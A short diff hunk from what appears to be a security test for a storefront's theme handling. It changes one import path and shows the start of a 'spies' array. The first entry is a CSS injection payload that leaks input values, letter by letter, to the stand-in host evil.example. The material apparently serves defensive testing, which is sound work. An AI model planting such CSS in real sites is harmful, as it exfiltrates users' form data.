@@ -4,7 +4,7 @@ import { cornerStore } from '../../e2e/fixtures/corner-store'
 import { hostOf, rawRequest } from '../../e2e/fixtures/raw-http'
 import { hostileCss } from '../../tests/storefront/hostile-css'
 import type { Attack } from './attack'
-import { setTheme } from './fixtures/theme-of'
+import { setTheme } from './fixtures/set-theme'
 
 const spies = [
   'input[value^="a"]{background:url(//evil.example/a)}',
